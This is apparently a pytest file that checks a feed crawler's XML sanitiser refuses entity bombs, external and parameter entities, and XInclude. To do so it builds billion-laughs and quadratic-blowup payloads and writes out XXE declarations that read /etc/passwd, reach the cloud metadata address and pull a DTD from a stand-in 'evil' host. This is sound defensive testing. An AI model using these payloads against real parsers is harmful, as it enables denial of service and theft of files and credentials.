"""XML defusing: bombs and external entities refused, benign internal entities expanded."""

from __future__ import annotations

import time

import pytest

from crawler.parsers.feed import FeedError, parse_feed
from crawler.parsers.xmlguard import MAX_EXPANSION_BYTES, XmlRejected, defuse_xml

RSS_TAIL = b"<rss version='2.0'><channel><title>&t;</title><item><title>&t;</title><link>http://e.com/1</link></item></channel></rss>"


def billion_laughs(levels: int = 10) -> bytes:
    decls = [b'<!ENTITY lol0 "lol">']
    for i in range(1, levels):
        prev = b"&lol%d;" % (i - 1)
        decls.append(b'<!ENTITY lol%d "%s">' % (i, prev * 10))
    return b"<?xml version='1.0'?><!DOCTYPE rss [" + b"".join(decls) + b"]><rss><channel><title>&lol%d;</title></channel></rss>" % (levels - 1)


def quadratic_blowup(size: int = 100_000, refs: int = 20_000) -> bytes:
    return (
        b"<?xml version='1.0'?><!DOCTYPE rss [<!ENTITY a \"" + b"x" * size + b"\">]>"
        b"<rss version='2.0'><channel><title>t</title><item><description>" + b"&a;" * refs + b"</description></item></channel></rss>"
    )


def test_benign_internal_entity_expands():
    body = b"<?xml version='1.0'?><!DOCTYPE rss [<!ENTITY t \"Tom &amp; Jerry\">]>" + RSS_TAIL
    out = defuse_xml(body)
    assert b"<!ENTITY" not in out
    feed = parse_feed(body, "http://e.com/feed")
    assert feed.title == "Tom & Jerry"
    assert feed.entries[0].title == "Tom & Jerry"


@pytest.mark.parametrize("body", [billion_laughs(), quadratic_blowup()], ids=["billion-laughs", "quadratic"])
def test_bombs_are_refused_quickly(body):
    started = time.monotonic()
    with pytest.raises(XmlRejected):
        defuse_xml(body)
    assert time.monotonic() - started < 2


def test_bomb_in_utf16_is_refused():
    body = billion_laughs().decode("ascii").replace("<?xml version='1.0'?>", "<?xml version='1.0' encoding='utf-16'?>")
    with pytest.raises(XmlRejected):
        defuse_xml(body.encode("utf-16"))


@pytest.mark.parametrize(
    "decl",
    [
        b'<!ENTITY x SYSTEM "file:///etc/passwd">',
        b'<!ENTITY x PUBLIC "-//x//x" "http://169.254.169.254/">',
        b'<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;',
    ],
)
def test_external_and_parameter_entities_are_refused(decl):
    body = b"<?xml version='1.0'?><!DOCTYPE rss [" + decl + b"]><rss><channel><title>&x;</title></channel></rss>"
    with pytest.raises(FeedError):
        parse_feed(body, "http://e.com/feed")


def test_external_dtd_without_subset_is_dropped():
    body = b'<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">' + RSS_TAIL.replace(b"&t;", b"T")
    assert b"DOCTYPE" not in defuse_xml(body)
    assert parse_feed(body, "http://e.com/feed").title == "T"


def test_xinclude_is_refused():
    body = b'<rss xmlns:xi="http://www.w3.org/2001/XInclude"><channel><xi:include href="file:///etc/passwd"/></channel></rss>'
    with pytest.raises(XmlRejected):
        defuse_xml(body)


def test_expansion_budget_is_large_enough_for_real_feeds():
    assert MAX_EXPANSION_BYTES >= 1024 * 1024


def test_no_doctype_is_untouched():
    body = b"<?xml version='1.0'?><rss><channel><title>x</title></channel></rss>"
    assert defuse_xml(body) is body


@pytest.mark.parametrize(
    ("body", "refused"),
    [
        (b"<r>" + b"<b/>" * 99_990 + b"</r>", False),  # under every cap
        (b"<r>" + b"<b/>" * 100_001 + b"</r>", True),  # elements
        (b"<r>" + b'<b a="1" c="2"/>' * 66_700 + b"</r>", False),  # long, but under the element and attribute caps
        (b"<r>" + b"&amp;" * 1_000_001 + b"</r>", True),  # references
    ],
)
def test_markup_caps_hold_whatever_the_body_length(body: bytes, refused: bool) -> None:
    from crawler.parsers.xmlguard import _check_markup

    if refused:
        with pytest.raises(XmlRejected):
            _check_markup(body)
    else:
        assert _check_markup(body) is None


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        (b"<r>&lt;p&gt;&amp;&#8217;&#x4EA7;</r>", b"<r>&lt;p&gt;&amp;&#8217;&#x4EA7;</r>"),  # nothing XML forbids: the same bytes
        (b"<r>&#0;&#x1;&#9;&#xD800;&#1114112;</r>", b"<r>&#xFFFD;&#xFFFD;&#9;&#xFFFD;&#xFFFD;</r>"),
    ],
)
def test_fix_char_refs_replaces_only_forbidden_references(body: bytes, expected: bytes) -> None:
    from crawler.parsers.xmlguard import _fix_char_refs

    assert _fix_char_refs(body) == expected
